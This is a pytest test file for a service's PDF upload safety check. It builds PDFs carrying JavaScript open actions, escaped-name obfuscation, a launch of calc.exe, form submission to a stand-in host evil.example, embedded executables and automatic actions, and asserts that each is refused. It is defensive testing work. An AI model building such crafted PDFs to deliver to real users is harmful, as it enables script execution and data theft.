"""Uploaded PDFs are read with a parser: active content (script, launch, form submission, data
import, rich media, embedded files, automatic actions) is refused with a clear message, object
streams and #-escaped names included; a page-and-zoom /OpenAction is allowed; a file that
cannot be read is refused with its own message; /verify compares whatever it is given."""
import io

import pytest
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.writer import PdfFileWriter
from pypdf import PdfWriter

from proxy_service.core import pdf_safety
from proxy_service.core.extensions import db
from proxy_service.models import Document

from .factories import PDF
from .seal_helpers import make_sealed_agreement

REFUSED = "为安全起见不予接收"
UNREADABLE = "无法读取这个 PDF 文件"
LINK = b"/Type/Annot/Subtype/Link/Rect[0 0 100 100]"


def classic_pdf(catalog=b"", page=b"", *more):
    """A PDF with a cross-reference table: `catalog` and `page` are added to those two
    dictionaries, `more` are the bodies of objects 4, 5, ..."""
    bodies = [b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
              b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
              b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]" + page + b">>", *more]
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj%s endobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + (b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1) + table
                  + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
                  % (len(bodies) + 1, len(out)))


def compressed_pdf(**catalog):
    """A PDF whose catalog entries (/OpenAction=..., /Names=...) are objects inside a
    compressed object stream, listed by a cross-reference stream (PDF 1.5+)."""
    writer = PdfFileWriter(stream_xrefs=True)
    stream = writer.prepare_object_stream()
    for key, value in catalog.items():
        writer.root[generic.NameObject(f"/{key}")] = writer.add_object(value, obj_stream=stream)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_dict(**entries):
    return generic.DictionaryObject({generic.NameObject(f"/{k}"): v for k, v in entries.items()})


def name(value):
    return generic.NameObject(f"/{value}")


def encrypted(data, user_password):
    writer = PdfWriter(clone_from=io.BytesIO(data))
    writer.encrypt(user_password=user_password, owner_password="owner-secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def upload(client, case, content, filename="材料.pdf"):
    return client.post(f"/cases/{case.id}/documents", follow_redirects=True,
                       data={"file": (io.BytesIO(content), filename), "kind": "material"},
                       content_type="multipart/form-data")


@pytest.fixture
def owner_on_case(client, world, login_as):
    case = world.case()
    db.session.commit()
    login_as(world.users["owner"])
    return case


SCRIPT = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
ACTIVE = {
    "script when opened": (classic_pdf(SCRIPT), "JavaScript 脚本"),
    "#-escaped names": (classic_pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
                        "JavaScript 脚本"),
    "script in the document's name tree": (classic_pdf(
        b"/Names<</JavaScript<</Names[(x) 4 0 R]>>>>", b"",
        b"<</S/JavaScript/JS(this.print())>>"), "JavaScript 脚本"),
    "a link that launches a program": (classic_pdf(
        b"", b"/Annots[<<" + LINK + b"/A<</S/Launch/F(calc.exe)>>>>]"), "启动外部程序"),
    "a form that submits": (classic_pdf(
        b"", b"/Annots[4 0 R]", b"<<" + LINK + b"/A<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>>>"),
        "表单数据提交"),
    "data import": (classic_pdf(b"", b"/Annots[<<" + LINK + b"/A<</S/ImportData/F(x.fdf)>>>>]"),
                    "数据导入"),
    "rich media": (classic_pdf(b"", b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]"),
                   "富媒体"),
    "embedded files": (classic_pdf(b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>", b"",
                                   b"<</Type/Filespec/F(a.exe)>>"), "嵌入文件"),
    "a page's automatic action": (classic_pdf(b"", b"/AA<</O<</S/URI/URI(https://evil.example/)>>>>"),
                                  "自动触发的动作"),
    "a web address opened with the file": (classic_pdf(b"/OpenAction<</S/URI/URI(https://evil.example/)>>"),
                                           "打开时执行的动作"),
    "a page, then a script": (classic_pdf(
        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(x)>>>>"), "JavaScript 脚本"),
    "script in an object stream": (compressed_pdf(OpenAction=pdf_dict(
        S=name("JavaScript"), JS=generic.TextStringObject("app.alert(1)"))), "JavaScript 脚本"),
    "embedded files in an object stream": (compressed_pdf(Names=pdf_dict(EmbeddedFiles=pdf_dict(
        Names=generic.ArrayObject([generic.TextStringObject("a.exe"), pdf_dict(F=generic.TextStringObject("a.exe"))])))),
        "嵌入文件"),
    "script in a PDF without an opening password": (encrypted(classic_pdf(SCRIPT), ""),
                                                    "JavaScript 脚本"),
}


@pytest.mark.parametrize("content, what", ACTIVE.values(), ids=ACTIVE.keys())
def test_active_content_is_refused_with_what_was_found(client, owner_on_case, content, what):
    page = upload(client, owner_on_case, content).text
    assert REFUSED in page and what in page
    assert db.session.query(Document).count() == 0


PASSIVE = {
    "open at a page, fit": classic_pdf(b"/OpenAction[3 0 R/Fit]"),
    "open at a page and zoom": classic_pdf(b"/OpenAction[3 0 R/XYZ null null 1.5]"),
    "open with a GoTo": classic_pdf(b"/OpenAction<</S/GoTo/D[3 0 R/FitH 842]>>"),
    "a GoTo in an object stream": compressed_pdf(OpenAction=pdf_dict(
        S=name("GoTo"), D=generic.ArrayObject([generic.NumberObject(0), name("Fit")]))),
    "a link to a web page": classic_pdf(b"", b"/Annots[<<" + LINK + b"/A<</S/URI/URI(https://www.gov.cn/)>>>>]"),
    "the smallest PDF": PDF,
}


@pytest.mark.parametrize("content", PASSIVE.values(), ids=PASSIVE.keys())
def test_pages_links_and_an_opening_view_are_accepted(client, owner_on_case, content):
    page = upload(client, owner_on_case, content).text
    assert "已上传" in page and REFUSED not in page
    assert db.session.query(Document).one().data == content


def test_a_sealed_agreement_is_accepted_as_an_upload(client, owner_on_case, seal_folder):
    """The seal's signature field and its appearance are not active content."""
    agreement = make_sealed_agreement(owner_on_case, seal_folder)
    upload(client, owner_on_case, agreement.final_pdf)
    assert db.session.query(Document).one().sha256 == agreement.final_sha256


UNREADABLE_FILES = {
    "only a header": b"%PDF-1.4 licence",
    "cut in half": PDF[:len(PDF) // 2],
    "header then noise": b"%PDF-1.7\n" + bytes(range(256)) * 8,
    "a table pointing nowhere and no catalog": b"%PDF-1.4\ntrailer<<>>\nstartxref\n9\n%%EOF\n",
}


@pytest.mark.parametrize("content", UNREADABLE_FILES.values(), ids=UNREADABLE_FILES.keys())
def test_a_pdf_that_cannot_be_read_is_refused_with_its_own_message(client, owner_on_case, content):
    page = upload(client, owner_on_case, content).text
    assert UNREADABLE in page and REFUSED not in page
    assert db.session.query(Document).count() == 0


def test_a_pdf_with_an_opening_password_is_refused_as_such(client, owner_on_case):
    page = upload(client, owner_on_case, encrypted(PDF, "open-sesame")).text
    assert "设有打开密码" in page
    assert db.session.query(Document).count() == 0


def test_the_refusal_is_in_the_users_language(client, owner_on_case):
    client.post("/language", data={"locale": "en"})
    page = upload(client, owner_on_case, classic_pdf(SCRIPT)).text
    assert "JavaScript" in page and "For security" in page


def test_verify_compares_an_active_pdf_instead_of_refusing_it(client):
    response = client.post("/verify", data={"file": (io.BytesIO(classic_pdf(SCRIPT)), "协议.pdf")},
                           content_type="multipart/form-data")
    assert response.status_code == 200
    assert "不一致" in response.text and REFUSED not in response.text


def test_a_pdf_of_more_objects_than_a_document_needs_is_not_parsed_through(client, owner_on_case,
                                                                          monkeypatch):
    """A file built of countless objects would make the check itself the slow part."""
    monkeypatch.setattr(pdf_safety, "MAX_OBJECTS", 3)
    page = upload(client, owner_on_case, classic_pdf(b"", b"", b"<<>>")).text   # 4 objects
    assert UNREADABLE in page
    assert db.session.query(Document).count() == 0
